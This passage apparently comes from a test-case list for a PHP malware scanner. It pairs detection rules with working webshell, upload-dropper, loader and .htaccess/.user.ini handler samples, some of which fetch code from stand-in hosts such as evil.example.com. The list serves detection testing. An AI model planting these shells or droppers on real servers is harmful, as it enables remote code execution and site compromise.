        "SPAMGEAR_DROPPER_UploadToSelfDirClientName",
        plain(
            "<?php $files = $_FILES['files']; for ($i = 0; $i < count($files['name']); $i++) { move_uploaded_file($files['tmp_name'][$i], $files['name'][$i]); }"
        ),
        True,
    ),  # b/u06.php
    (
        "SPAMGEAR_DROPPER_UploadToSelfDirClientName",
        padded(
            "<?php $files = $_FILES['files']; for ($i = 0; $i < count($files['name']); $i++) { move_uploaded_file($files['tmp_name'][$i], $files['name'][$i]); }"
        ),
        True,
    ),  # b/u06.php padded
    (
        "SPAMGEAR_DROPPER_UploadToSelfDirClientName",
        plain(
            "<?php if (!empty($_FILES)) { $t = $_FILES['a']['tmp_name']; $dst = $_SERVER['DOCUMENT_ROOT'] . '/' . $_FILES['a']['name']; move_uploaded_file($t, $dst); }"
        ),
        True,
    ),  # b/u07.php
    (
        "SPAMGEAR_DROPPER_UploadToSelfDirClientName",
        padded(
            "<?php if (!empty($_FILES)) { $t = $_FILES['a']['tmp_name']; $dst = $_SERVER['DOCUMENT_ROOT'] . '/' . $_FILES['a']['name']; move_uploaded_file($t, $dst); }"
        ),
        True,
    ),  # b/u07.php padded
    (
        "SPAMGEAR_DROPPER_UploadFormNearClientNameMove",
        plain(
            "<?php if ($_GET['x'] == 'up') { ?><form action=\"\" method=\"post\" enctype=\"multipart/form-data\"><input type=\"file\" name=\"f\"><input type=\"submit\"></form><?php if (is_uploaded_file($_FILES['f']['tmp_name'])) { move_uploaded_file($_FILES['f']['tmp_name'], basename($_FILES['f']['name'])); } }"
        ),
        True,
    ),  # b/u08.php
    (
        "SPAMGEAR_DROPPER_UploadFormNearClientNameMove",
        padded(
            "<?php if ($_GET['x'] == 'up') { ?><form action=\"\" method=\"post\" enctype=\"multipart/form-data\"><input type=\"file\" name=\"f\"><input type=\"submit\"></form><?php if (is_uploaded_file($_FILES['f']['tmp_name'])) { move_uploaded_file($_FILES['f']['tmp_name'], basename($_FILES['f']['name'])); } }"
        ),
        True,
    ),  # b/u08.php padded
    (
        "SPAMGEAR_DROPPER_UploadFormNearClientNameMove",
        embedded(
            "<?php if ($_GET['x'] == 'up') { ?><form action=\"\" method=\"post\" enctype=\"multipart/form-data\"><input type=\"file\" name=\"f\"><input type=\"submit\"></form><?php if (is_uploaded_file($_FILES['f']['tmp_name'])) { move_uploaded_file($_FILES['f']['tmp_name'], basename($_FILES['f']['name'])); } }"
        ),
        True,
    ),  # b/u08.php embedded
    (
        "SPAMGEAR_DROPPER_DecodedWriteThenInclude",
        plain(
            "<?php $s = $_POST['s']; if ($s) { $t = tempnam('/tmp', 'php'); $fp = fopen($t, 'w'); fwrite($fp, base64_decode($s)); fclose($fp); include($t); unlink($t); }"
        ),
        True,
    ),  # b/w01.php
    (
        "SPAMGEAR_DROPPER_DecodedWriteThenInclude",
        padded(
            "<?php $s = $_POST['s']; if ($s) { $t = tempnam('/tmp', 'php'); $fp = fopen($t, 'w'); fwrite($fp, base64_decode($s)); fclose($fp); include($t); unlink($t); }"
        ),
        True,
    ),  # b/w01.php padded
    (
        "SPAMGEAR_DROPPER_DecodedWriteThenInclude",
        embedded(
            "<?php $s = $_POST['s']; if ($s) { $t = tempnam('/tmp', 'php'); $fp = fopen($t, 'w'); fwrite($fp, base64_decode($s)); fclose($fp); include($t); unlink($t); }"
        ),
        True,
    ),  # b/w01.php embedded
    (
        "SPAMGEAR_DROPPER_DecodedWriteThenInclude",
        plain(
            "<?php\n$code = gzinflate(base64_decode($_COOKIE['p']));\n$file = session_save_path() . '/sess_' . session_id();\nfile_put_contents($file, \"<?php\\n\" . $code);\nrequire($file);\n"
        ),
        True,
    ),  # b/w02.php
    (
        "SPAMGEAR_DROPPER_DecodedWriteThenInclude",
        padded(
            "<?php\n$code = gzinflate(base64_decode($_COOKIE['p']));\n$file = session_save_path() . '/sess_' . session_id();\nfile_put_contents($file, \"<?php\\n\" . $code);\nrequire($file);\n"
        ),
        True,
    ),  # b/w02.php padded
    (
        "SPAMGEAR_DROPPER_DecodedWriteThenInclude",
        embedded(
            "<?php\n$code = gzinflate(base64_decode($_COOKIE['p']));\n$file = session_save_path() . '/sess_' . session_id();\nfile_put_contents($file, \"<?php\\n\" . $code);\nrequire($file);\n"
        ),
        True,
    ),  # b/w02.php embedded
    (
        "SPAMGEAR_DROPPER_DecodedWriteThenInclude",
        plain(
            "<?php $b = file_get_contents('php://input'); file_put_contents('/tmp/.x', base64_decode($b)); include '/tmp/.x';"
        ),
        True,
    ),  # b/w03.php
    (
        "SPAMGEAR_DROPPER_DecodedWriteThenInclude",
        padded(
            "<?php $b = file_get_contents('php://input'); file_put_contents('/tmp/.x', base64_decode($b)); include '/tmp/.x';"
        ),
        True,
    ),  # b/w03.php padded
    (
        "SPAMGEAR_DROPPER_DecodedWriteThenInclude",
        embedded(
            "<?php $b = file_get_contents('php://input'); file_put_contents('/tmp/.x', base64_decode($b)); include '/tmp/.x';"
        ),
        True,
    ),  # b/w03.php embedded
    (
        "SPAMGEAR_DROPPER_DecodedWriteThenInclude",
        plain(
            "<?php @file_put_contents($f = sys_get_temp_dir() . '/' . uniqid() . '.php', base64_decode($_POST['x'])); @include $f; @unlink($f);"
        ),
        True,
    ),  # b/w04.php
    (
        "SPAMGEAR_DROPPER_DecodedWriteThenInclude",
        padded(
            "<?php @file_put_contents($f = sys_get_temp_dir() . '/' . uniqid() . '.php', base64_decode($_POST['x'])); @include $f; @unlink($f);"
        ),
        True,
    ),  # b/w04.php padded
    (
        "SPAMGEAR_DROPPER_DecodedWriteThenInclude",
        embedded(
            "<?php @file_put_contents($f = sys_get_temp_dir() . '/' . uniqid() . '.php', base64_decode($_POST['x'])); @include $f; @unlink($f);"
        ),
        True,
    ),  # b/w04.php embedded
    (
        "SPAMGEAR_POLYGLOT_HtaccessHandler",
        plain("AddType application/x-httpd-php .php5 .pht .png\n"),
        True,
    ),  # c/k04.htaccess
    (
        "SPAMGEAR_POLYGLOT_HtaccessHandler",
        ht_padded("AddType application/x-httpd-php .php5 .pht .png\n"),
        True,
    ),  # c/k04.htaccess padded
    (
        "SPAMGEAR_POLYGLOT_HtaccessHandler",
        plain('<Files "*.jpg">\n  SetHandler application/x-httpd-php\n</Files>\n'),
        True,
    ),  # c/k05.htaccess
    (
        "SPAMGEAR_POLYGLOT_HtaccessHandler",
        ht_padded('<Files "*.jpg">\n  SetHandler application/x-httpd-php\n</Files>\n'),
        True,
    ),  # c/k05.htaccess padded
    (
        "SPAMGEAR_POLYGLOT_HtaccessHandler",
        plain("AddHandler application/x-httpd-php .jpeg\nphp_flag engine on\n"),
        True,
    ),  # c/k06.htaccess
    (
        "SPAMGEAR_POLYGLOT_HtaccessHandler",
        ht_padded("AddHandler application/x-httpd-php .jpeg\nphp_flag engine on\n"),
        True,
    ),  # c/k06.htaccess padded
    (
        "SPAMGEAR_POLYGLOT_HtaccessHandler",
        plain(
            '<FilesMatch ".(jpg|gif)$">\n  Order allow,deny\n  Allow from all\n  Require all granted\n  SetHandler application/x-httpd-php\n</FilesMatch>\n'
        ),
        True,
    ),  # c/k07.htaccess
    (
        "SPAMGEAR_POLYGLOT_HtaccessHandler",
        ht_padded(
            '<FilesMatch ".(jpg|gif)$">\n  Order allow,deny\n  Allow from all\n  Require all granted\n  SetHandler application/x-httpd-php\n</FilesMatch>\n'
        ),
        True,
    ),  # c/k07.htaccess padded
    (
        "SPAMGEAR_POLYGLOT_HtaccessHandler",
        plain('php_value auto_prepend_file "/home/u/public_html/wp-content/uploads/2023/05/.htcache"\n'),
        True,
    ),  # c/k08.htaccess
    (
        "SPAMGEAR_POLYGLOT_HtaccessHandler",
        ht_padded('php_value auto_prepend_file "/home/u/public_html/wp-content/uploads/2023/05/.htcache"\n'),
        True,
    ),  # c/k08.htaccess padded
    (
        "SPAMGEAR_POLYGLOT_IniPrependNonPhp",
        plain('auto_prepend_file = "php://filter/read=convert.base64-decode/resource=/tmp/x"\n'),
        True,
    ),  # c/k09.user.ini
    (
        "SPAMGEAR_POLYGLOT_IniPrependNonPhp",
        ini_padded('auto_prepend_file = "php://filter/read=convert.base64-decode/resource=/tmp/x"\n'),
        True,
    ),  # c/k09.user.ini padded
    (
        "SPAMGEAR_POLYGLOT_IniPrependNonPhp",
        plain("auto_prepend_file=../wp-content/languages/.l10n.mo\n"),
        True,
    ),  # c/k10.user.ini
    (
        "SPAMGEAR_POLYGLOT_IniPrependNonPhp",
        ini_padded("auto_prepend_file=../wp-content/languages/.l10n.mo\n"),
        True,
    ),  # c/k10.user.ini padded
    (
        "SPAMGEAR_POLYGLOT_IniPrependNonPhp",
        plain("auto_prepend_file = /home/site/public_html/wp-content/uploads/sess.db\n"),
        True,
    ),  # c/k11.user.ini
    (
        "SPAMGEAR_POLYGLOT_IniPrependNonPhp",
        ini_padded("auto_prepend_file = /home/site/public_html/wp-content/uploads/sess.db\n"),
        True,
    ),  # c/k11.user.ini padded
    (
        "SPAMGEAR_PASSGATE_GatedSink",
        plain(
            "<?php if (md5(md5($_COOKIE['sid'])) === '6f1ed002ab5595859014ebf0951522d9') { $f = create_function('', base64_decode($_COOKIE['c'])); $f(); }"
        ),
        True,
    ),  # c/n01.php
    (
        "SPAMGEAR_PASSGATE_GatedSink",
        padded(
            "<?php if (md5(md5($_COOKIE['sid'])) === '6f1ed002ab5595859014ebf0951522d9') { $f = create_function('', base64_decode($_COOKIE['c'])); $f(); }"
        ),
        True,
    ),  # c/n01.php padded
    (
        "SPAMGEAR_PASSGATE_GatedSink",
        embedded(
            "<?php if (md5(md5($_COOKIE['sid'])) === '6f1ed002ab5595859014ebf0951522d9') { $f = create_function('', base64_decode($_COOKIE['c'])); $f(); }"
        ),
        True,
    ),  # c/n01.php embedded
    (
        "SPAMGEAR_PASSGATE_GatedSink",
        plain(
            "<?php $k = @$_SERVER['HTTP_X_API_KEY']; if (hash('sha1', $k) == '2fd4e1c67a2d28fced849ee1bb76e7391b93eb12') { eval(base64_decode(file_get_contents('php://input'))); }"
        ),
        True,
    ),  # c/n02.php
    (
        "SPAMGEAR_PASSGATE_GatedSink",
        padded(
            "<?php $k = @$_SERVER['HTTP_X_API_KEY']; if (hash('sha1', $k) == '2fd4e1c67a2d28fced849ee1bb76e7391b93eb12') { eval(base64_decode(file_get_contents('php://input'))); }"
        ),
        True,
    ),  # c/n02.php padded
    (
        "SPAMGEAR_PASSGATE_GatedSink",
        embedded(
            "<?php $k = @$_SERVER['HTTP_X_API_KEY']; if (hash('sha1', $k) == '2fd4e1c67a2d28fced849ee1bb76e7391b93eb12') { eval(base64_decode(file_get_contents('php://input'))); }"
        ),
        True,
    ),  # c/n02.php embedded
    (
        "SPAMGEAR_INPUT_ShellOfInput",
        plain("<?php if (crypt(@$_GET['pw'], 'xy') == 'xyZ3bH0q9cL2k') { passthru($_GET['c']); }"),
        True,
    ),  # c/n03.php
    (
        "SPAMGEAR_INPUT_ShellOfInput",
        padded("<?php if (crypt(@$_GET['pw'], 'xy') == 'xyZ3bH0q9cL2k') { passthru($_GET['c']); }"),
        True,
    ),  # c/n03.php padded
    (
        "SPAMGEAR_INPUT_ShellOfInput",
        embedded("<?php if (crypt(@$_GET['pw'], 'xy') == 'xyZ3bH0q9cL2k') { passthru($_GET['c']); }"),
        True,
    ),  # c/n03.php embedded
    (
        "SPAMGEAR_INPUT_EvalOfInput",
        plain(
            "<?php if ($_SERVER['HTTP_USER_AGENT'] == base64_decode('TW96aWxsYS81LjA=')) { eval($_REQUEST['q']); }"
        ),
        True,
    ),  # c/n04.php
    (
        "SPAMGEAR_INPUT_EvalOfInput",
        padded(
            "<?php if ($_SERVER['HTTP_USER_AGENT'] == base64_decode('TW96aWxsYS81LjA=')) { eval($_REQUEST['q']); }"
        ),
        True,
    ),  # c/n04.php padded
    (
        "SPAMGEAR_INPUT_EvalOfInput",
        embedded(
            "<?php if ($_SERVER['HTTP_USER_AGENT'] == base64_decode('TW96aWxsYS81LjA=')) { eval($_REQUEST['q']); }"
        ),
        True,
    ),  # c/n04.php embedded
    (
        "SPAMGEAR_INPUT_IncludeOfInput",
        plain(
            "<?php if (isset($_COOKIE['PHPSESSID2']) && $_COOKIE['PHPSESSID2'] === 'a8f5f167f44f4964e6c998dee827110c') { @include($_COOKIE['inc']); }"
        ),
        True,
    ),  # c/n05.php
    (
        "SPAMGEAR_INPUT_IncludeOfInput",
        padded(
            "<?php if (isset($_COOKIE['PHPSESSID2']) && $_COOKIE['PHPSESSID2'] === 'a8f5f167f44f4964e6c998dee827110c') { @include($_COOKIE['inc']); }"
        ),
        True,
    ),  # c/n05.php padded
    (
        "SPAMGEAR_INPUT_IncludeOfInput",
        embedded(
            "<?php if (isset($_COOKIE['PHPSESSID2']) && $_COOKIE['PHPSESSID2'] === 'a8f5f167f44f4964e6c998dee827110c') { @include($_COOKIE['inc']); }"
        ),
        True,
    ),  # c/n05.php embedded
    (
        "SPAMGEAR_INPUT_ShellOfInput",
        plain(
            "<?php $secret = 'hunter2'; if (($_POST['s'] ?? '') !== $secret) { http_response_code(404); die; } echo shell_exec($_POST['c'] . ' 2>&1');"
        ),
        True,
    ),  # c/n06.php
    (
        "SPAMGEAR_INPUT_ShellOfInput",
        padded(
            "<?php $secret = 'hunter2'; if (($_POST['s'] ?? '') !== $secret) { http_response_code(404); die; } echo shell_exec($_POST['c'] . ' 2>&1');"
        ),
        True,
    ),  # c/n06.php padded
    (
        "SPAMGEAR_INPUT_ShellOfInput",
        embedded(
            "<?php $secret = 'hunter2'; if (($_POST['s'] ?? '') !== $secret) { http_response_code(404); die; } echo shell_exec($_POST['c'] . ' 2>&1');"
        ),
        True,
    ),  # c/n06.php embedded
    (
        "SPAMGEAR_INPUT_AdjacentInputToSink",
        plain(
            "<?php if (preg_match('/x-spider-9/i', @$_SERVER['HTTP_USER_AGENT'])) { $c = base64_decode($_SERVER['HTTP_ACCEPT_CHARSET']); eval($c); }"
        ),
        True,
    ),  # c/n07.php
    (
        "SPAMGEAR_INPUT_AdjacentInputToSink",
        padded(
            "<?php if (preg_match('/x-spider-9/i', @$_SERVER['HTTP_USER_AGENT'])) { $c = base64_decode($_SERVER['HTTP_ACCEPT_CHARSET']); eval($c); }"
        ),
        True,
    ),  # c/n07.php padded
    (
        "SPAMGEAR_INPUT_AdjacentInputToSink",
        embedded(
            "<?php if (preg_match('/x-spider-9/i', @$_SERVER['HTTP_USER_AGENT'])) { $c = base64_decode($_SERVER['HTTP_ACCEPT_CHARSET']); eval($c); }"
        ),
        True,
    ),  # c/n07.php embedded
    (
        "SPAMGEAR_INPUT_ArbitraryFileWrite",
        plain(
            "<?php if (password_verify($_POST['p'], PW_HASH)) move_uploaded_file($_FILES['f']['tmp_name'], $_POST['to']);"
        ),
        True,
    ),  # c/n08.php
    (
        "SPAMGEAR_INPUT_ArbitraryFileWrite",
        padded(
            "<?php if (password_verify($_POST['p'], PW_HASH)) move_uploaded_file($_FILES['f']['tmp_name'], $_POST['to']);"
        ),
        True,
    ),  # c/n08.php padded
    (
        "SPAMGEAR_INPUT_ArbitraryFileWrite",
        embedded(
            "<?php if (password_verify($_POST['p'], PW_HASH)) move_uploaded_file($_FILES['f']['tmp_name'], $_POST['to']);"
        ),
        True,
    ),  # c/n08.php embedded
    (
        "SPAMGEAR_INPUT_ShellOfInput",
        plain(
            "<?php if (hash_equals('9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08', hash('sha256', $_SERVER['HTTP_X_TOKEN'] ?? ''))) { system($_SERVER['HTTP_X_CMD']); }"
        ),
        True,
    ),  # c/n09.php
    (
        "SPAMGEAR_INPUT_ShellOfInput",
        padded(
            "<?php if (hash_equals('9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08', hash('sha256', $_SERVER['HTTP_X_TOKEN'] ?? ''))) { system($_SERVER['HTTP_X_CMD']); }"
        ),
        True,
    ),  # c/n09.php padded
    (
        "SPAMGEAR_INPUT_ShellOfInput",
        embedded(
            "<?php if (hash_equals('9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08', hash('sha256', $_SERVER['HTTP_X_TOKEN'] ?? ''))) { system($_SERVER['HTTP_X_CMD']); }"
        ),
        True,
    ),  # c/n09.php embedded
    (
        "SPAMGEAR_PASSGATE_GatedSink",
        plain(
            "<?php if (sha1($_GET['k'] . 'salt') == '2fd4e1c67a2d28fced849ee1bb76e7391b93eb12') { eval($_POST['c']); }"
        ),
        True,
    ),  # c/n10.php
    (
        "SPAMGEAR_PASSGATE_GatedSink",
        padded(
            "<?php if (sha1($_GET['k'] . 'salt') == '2fd4e1c67a2d28fced849ee1bb76e7391b93eb12') { eval($_POST['c']); }"
        ),
        True,
    ),  # c/n10.php padded
    (
        "SPAMGEAR_PASSGATE_GatedSink",
        embedded(
            "<?php if (sha1($_GET['k'] . 'salt') == '2fd4e1c67a2d28fced849ee1bb76e7391b93eb12') { eval($_POST['c']); }"
        ),
        True,
    ),  # c/n10.php embedded
    (
        "SPAMGEAR_DROPPER_RemoteFetchNearPhpWrite",
        plain(
            "<?php $t = 'ht' . 'tp://evil.example.com/s.txt'; $d = @file_get_contents($t); @file_put_contents('wp-feed2.php', $d);"
        ),
        True,
    ),  # c/x01.php
    (
        "SPAMGEAR_DROPPER_RemoteFetchNearPhpWrite",
        padded(
            "<?php $t = 'ht' . 'tp://evil.example.com/s.txt'; $d = @file_get_contents($t); @file_put_contents('wp-feed2.php', $d);"
        ),
        True,
    ),  # c/x01.php padded
    (
        "SPAMGEAR_DROPPER_RemoteFetchNearPhpWrite",
        embedded(
            "<?php $t = 'ht' . 'tp://evil.example.com/s.txt'; $d = @file_get_contents($t); @file_put_contents('wp-feed2.php', $d);"
        ),
        True,
    ),  # c/x01.php embedded
    (
        "SPAMGEAR_DROPPER_RemoteFetchNearPhpWrite",
        plain(
            "<?php\n$r = file_get_contents('http://files.example.biz/shell.txt');\n$dir = dirname(__FILE__);\n$fh = fopen(\"$dir/wp-atom.php\", 'w');\nfputs($fh, $r);\nfclose($fh);\n"
        ),
        True,
    ),  # c/x02.php
    (
        "SPAMGEAR_DROPPER_RemoteFetchNearPhpWrite",
        padded(
            "<?php\n$r = file_get_contents('http://files.example.biz/shell.txt');\n$dir = dirname(__FILE__);\n$fh = fopen(\"$dir/wp-atom.php\", 'w');\nfputs($fh, $r);\nfclose($fh);\n"
        ),
        True,
    ),  # c/x02.php padded
    (
        "SPAMGEAR_DROPPER_RemoteFetchNearPhpWrite",
        embedded(
            "<?php\n$r = file_get_contents('http://files.example.biz/shell.txt');\n$dir = dirname(__FILE__);\n$fh = fopen(\"$dir/wp-atom.php\", 'w');\nfputs($fh, $r);\nfclose($fh);\n"
        ),
        True,
    ),  # c/x02.php embedded
    (
        "SPAMGEAR_DROPPER_RemoteFetchNearPhpWrite",
        plain(
            '<?php\n$url = "https://raw.githubusercontent.com/x/y/master/z.php";\n$save = "./wp-content/themes/index2.php";\nif (copy($url, $save)) echo "ok";\n'
        ),
        True,
    ),  # c/x03.php
    (
        "SPAMGEAR_DROPPER_RemoteFetchNearPhpWrite",
        padded(
            '<?php\n$url = "https://raw.githubusercontent.com/x/y/master/z.php";\n$save = "./wp-content/themes/index2.php";\nif (copy($url, $save)) echo "ok";\n'
        ),
        True,
    ),  # c/x03.php padded
    (
        "SPAMGEAR_DROPPER_RemoteFetchNearPhpWrite",
        embedded(
            '<?php\n$url = "https://raw.githubusercontent.com/x/y/master/z.php";\n$save = "./wp-content/themes/index2.php";\nif (copy($url, $save)) echo "ok";\n'
        ),
        True,
    ),  # c/x03.php embedded
    (
        "SPAMGEAR_DROPPER_RemoteFetchNearPhpWrite",
        plain(
            "<?php file_put_contents(\"{$_SERVER['DOCUMENT_ROOT']}/wp-includes/IXR/class-IXR-cache.php\", base64_decode(file_get_contents('http://files.example.biz/b64.txt')));"
        ),
        True,
    ),  # c/x04.php
    (
        "SPAMGEAR_DROPPER_RemoteFetchNearPhpWrite",
        padded(
            "<?php file_put_contents(\"{$_SERVER['DOCUMENT_ROOT']}/wp-includes/IXR/class-IXR-cache.php\", base64_decode(file_get_contents('http://files.example.biz/b64.txt')));"
        ),
        True,
    ),  # c/x04.php padded
    (
        "SPAMGEAR_DROPPER_RemoteFetchNearPhpWrite",
        embedded(
            "<?php file_put_contents(\"{$_SERVER['DOCUMENT_ROOT']}/wp-includes/IXR/class-IXR-cache.php\", base64_decode(file_get_contents('http://files.example.biz/b64.txt')));"
        ),
        True,
    ),  # c/x04.php embedded
    (
        "SPAMGEAR_DROPPER_RemoteFetchNearPhpWrite",
        plain(
            "<?php $c = @file_get_contents('https://files.example.biz/y.txt') ?: @implode('', @file('https://files.example.biz/y.txt')); @file_put_contents(ABSPATH . 'wp-links-opml2.php', $c);"
        ),
        True,
    ),  # c/x05.php
    (
        "SPAMGEAR_DROPPER_RemoteFetchNearPhpWrite",
        padded(
            "<?php $c = @file_get_contents('https://files.example.biz/y.txt') ?: @implode('', @file('https://files.example.biz/y.txt')); @file_put_contents(ABSPATH . 'wp-links-opml2.php', $c);"
        ),
        True,
    ),  # c/x05.php padded
    (
        "SPAMGEAR_DROPPER_RemoteFetchNearPhpWrite",
        embedded(
            "<?php $c = @file_get_contents('https://files.example.biz/y.txt') ?: @implode('', @file('https://files.example.biz/y.txt')); @file_put_contents(ABSPATH . 'wp-links-opml2.php', $c);"
        ),
        True,
    ),  # c/x05.php embedded
    (
        "SPAMGEAR_OBFUSC_Base64CodeDropper",
        plain(
            "<?php\n$p = 'PD9waHAKZnVuY3Rpb24gaGVscGVyXzAoJGEpIHsgcmV0dXJuIHN0cnRvdXBwZXIoJGEpIC4gJzAnOyB9CmZ1bmN0aW9uIGhlbHBlcl8xKCRhKSB7IHJldHVybiBzdHJ0b3VwcGVyKCRhKSAuICcxJzsgfQpmdW5jdGlvbiBoZWxwZXJfMigkYSkgeyByZXR1cm4gc3RydG91cHBlcigkYSkgLiAnMic7IH0KZnVuY3Rpb24gaGVscGVyXzMoJGEpIHsgcmV0dXJuIHN0cnRvdXBwZXIoJGEpIC4gJzMnOyB9CmZ1bmN0aW9uIGhlbHBlcl80KCRhKSB7IHJldHVybiBzdHJ0b3VwcGVyKCRhKSAuICc0JzsgfQpmdW5jdGlvbiBoZWxwZXJfNSgkYSkgeyByZXR1cm4gc3RydG91cHBlcigkYSkgLiAnNSc7IH0KZnVuY3Rpb24gaGVscGVyXzYoJGEpIHsgcmV0dXJuIHN0cnRvdXBwZXIoJGEpIC4gJzYnOyB9CmZ1bmN0aW9uIGhlbHBlcl83KCRhKSB7IHJldHVybiBzdHJ0b3VwcGVyKCRhKSAuICc3JzsgfQpmdW5jdGlvbiBoZWxwZXJfOCgkYSkgeyByZXR1cm4gc3RydG91cHBlcigkYSkgLiAnOCc7IH0KZnVuY3Rpb24gaGVscGVyXzkoJGEpIHsgcmV0dXJuIHN0cnRvdXBwZXIoJGEpIC4gJzknOyB9CmZ1bmN0aW9uIGhlbHBlcl8xMCgkYSkgeyByZXR1cm4gc3RydG91cHBlcigkYSkgLiAnMTAnOyB9CmZ1bmN0aW9uIGhlbHBlcl8xMSgkYSkgeyByZXR1cm4gc3RydG91cHBlcigkYSkgLiAnMTEnOyB9CmZ1bmN0aW9uIGhlbHBlcl8xMigkYSkgeyByZXR1cm4gc3RydG91cHBlcigkYSkgLiAnMTInOyB9CmZ1bmN0aW9uIGhlbHBlcl8xMygkYSkgeyByZXR1cm4gc3RydG91cHBlcigkYSkgLiAnMTMnOyB9CmZ1bmN0aW9uIGhlbHBlcl8xNCgkYSkgeyByZXR1cm4gc3RydG91cHBlcigkYSkgLiAnMTQnOyB9CmZ1bmN0aW9uIGhlbHBlcl8xNSgkYSkgeyByZXR1cm4gc3RydG91cHBlcigkYSkgLiAnMTUnOyB9CmZ1bmN0aW9uIGhlbHBlcl8xNigkYSkgeyByZXR1cm4gc3RydG91cHBlcigkYSkgLiAnMTYnOyB9CmZ1bmN0aW9uIGhlbHBlcl8xNygkYSkgeyByZXR1cm4gc3RydG91cHBlcigkYSkgLiAnMTcnOyB9CmZ1bmN0aW9uIGhlbHBlcl8xOCgkYSkgeyByZXR1cm4gc3RydG91cHBlcigkYSkgLiAnMTgnOyB9CmZ1bmN0aW9uIGhlbHBlcl8xOSgkYSkgeyByZXR1cm4gc3RydG91cHBlcigkYSkgLiAnMTknOyB9CmZ1bmN0aW9uIGhlbHBlcl8yMCgkYSkgeyByZXR1cm4gc3RydG91cHBlcigkYSkgLiAnMjAnOyB9CmZ1bmN0aW9uIGhlbHBlcl8yMSgkYSkgeyByZXR1cm4gc3RydG91cHBlcigkYSkgLiAnMjEnOyB9CmZ1bmN0aW9uIGhlbHBlcl8yMigkYSkgeyByZXR1cm4gc3RydG91cHBlcigkYSkgLiAnMjInOyB9CmZ1bmN0aW9uIGhlbHBlcl8yMygkYSkgeyByZXR1cm4gc3RydG91cHBlcigkYSkgLiAnMjMnOyB9CmZ1bmN0aW9uIGhlbHBlcl8yNCgkYSkgeyByZXR1cm4gc3RydG91cHBlcigkYSkgLiAnMjQnOyB9CmZ1bmN0aW9uIGhlbHBlcl8yNSgkYSkgeyByZXR1cm4gc3RydG91cHBlcigkYSkgLiAnMjUnOyB9CmZ1bmN0aW9uIGhlbHBlcl8yNigkYSkgeyByZXR1cm4gc3RydG91cHBlcigkYSkgLiAnMjYnOyB9CmZ1bmN0aW9uIGhlbHBlcl8yNygkYSkgeyByZXR1cm4gc3RydG91cHBlcigkYSkgLiAnMjcnOyB9CmZ1bmN0aW9uIGhlbHBlcl8yOCgkYSkgeyByZXR1cm4gc3RydG91cHBlcigkYSkgLiAnMjgnOyB9CmZ1bmN0aW9uIGhlbHBlcl8yOSgkYSkgeyByZXR1cm4gc3RydG91cHBlcigkYSkgLiAnMjknOyB9CmZ1bmN0aW9uIGhlbHBlcl8zMCgkYSkgeyByZXR1cm4gc3RydG91cHBlcigkYSkgLiAnMzAnOyB9CmZ1bmN0aW9uIGhlbHBlcl8zMSgkYSkgeyByZXR1cm4gc3RydG91cHBlcigkYSkgLiAnMzEnOyB9CmZ1bmN0aW9uIGhlbHBlcl8zMigkYSkgeyByZXR1cm4gc3RydG91cHBlcigkYSkgLiAnMzInOyB9CmZ1bmN0aW9uIGhlbHBlcl8zMygkYSkgeyByZXR1cm4gc3RydG91cHBlcigkYSkgLiAnMzMnOyB9CmZ1bmN0aW9uIGhlbHBlcl8zNCgkYSkgeyByZXR1cm4gc3RydG91cHBlcigkYSkgLiAnMzQnOyB9CmZ1bmN0aW9uIGhlbHBlcl8zNSgkYSkgeyByZXR1cm4gc3RydG91cHBlcigkYSkgLiAnMzUnOyB9CmZ1bmN0aW9uIGhlbHBlcl8zNigkYSkgeyByZXR1cm4gc3RydG91cHBlcigkYSkgLiAnMzYnOyB9CmZ1bmN0aW9uIGhlbHBlcl8zNygkYSkgeyByZXR1cm4gc3RydG91cHBlcigkYSkgLiAnMzcnOyB9CmZ1bmN0aW9uIGhlbHBlcl8zOCgkYSkgeyByZXR1cm4gc3RydG91cHBlcigkYSkgLiAnMzgnOyB9CmZ1bmN0aW9uIGhlbHBlcl8zOSgkYSkgeyByZXR1cm4gc3RydG91cHBlcigkYSkgLiAnMzknOyB9CmZ1bmN0aW9uIGhlbHBlcl80MCgkYSkgeyByZXR1cm4gc3RydG91cHBlcigkYSkgLiAnNDAnOyB9CmZ1bmN0aW9uIGhlbHBlcl80MSgkYSkgeyByZXR1cm4gc3RydG91cHBlcigkYSkgLiAnNDEnOyB9CmZ1bmN0aW9uIGhlbHBlcl80MigkYSkgeyByZXR1cm4gc3RydG91cHBlcigkYSkgLiAnNDInOyB9CmZ1bmN0aW9uIGhlbHBlcl80MygkYSkgeyByZXR1cm4gc3RydG91cHBlcigkYSkgLiAnNDMnOyB9CmZ1bmN0aW9uIGhlbHBlcl80NCgkYSkgeyByZXR1cm4gc3RydG91cHBlcigkYSkgLiAnNDQnOyB9CmZ1bmN0aW9uIGhlbHBlcl80NSgkYSkgeyByZXR1cm4gc3RydG91cHBlcigkYSkgLiAnNDUnOyB9CmZ1bmN0aW9uIGhlbHBlcl80NigkYSkgeyByZXR1cm4gc3RydG91cHBlcigkYSkgLiAnNDYnOyB9CmZ1bmN0aW9uIGhlbHBlcl80NygkYSkgeyByZXR1cm4gc3RydG91cHBlcigkYSkgLiAnNDcnOyB9CmZ1bmN0aW9uIGhlbHBlcl80OCgkYSkgeyByZXR1cm4gc3RydG91cHBlcigkYSkgLiAnNDgnOyB9CmZ1bmN0aW9uIGhlbHBlcl80OSgkYSkgeyByZXR1cm4gc3RydG91cHBlcigkYSkgLiAnNDknOyB9CmZ1bmN0aW9uIGhlbHBlcl81MCgkYSkgeyByZXR1cm4gc3RydG91cHBlcigkYSkgLiAnNTAnOyB9CmZ1bmN0aW9uIGhlbHBlcl81MSgkYSkgeyByZXR1cm4gc3RydG91cHBlcigkYSkgLiAnNTEnOyB9CmZ1bmN0aW9uIGhlbHBlcl81MigkYSkgeyByZXR1cm4gc3RydG91cHBlcigkYSkgLiAnNTInOyB9CmZ1bmN0aW9uIGhlbHBlcl81MygkYSkgeyByZXR1cm4gc3RydG91cHBlcigkYSkgLiAnNTMnOyB9CmZ1bmN0aW9uIGhlbHBlcl81NCgkYSkgeyByZXR1cm4gc3RydG91cHBlcigkYSkgLiAnNTQnOyB9CmZ1bmN0aW9uIGhlbHBlcl81NSgkYSkgeyByZXR1cm4gc3RydG91cHBlcigkYSkgLiAnNTUnOyB9CmZ1bmN0aW9uIGhlbHBlcl81NigkYSkgeyByZXR1cm4gc3RydG91cHBlcigkYSkgLiAnNTYnOyB9CmZ1bmN0aW9uIGhlbHBlcl81NygkYSkgey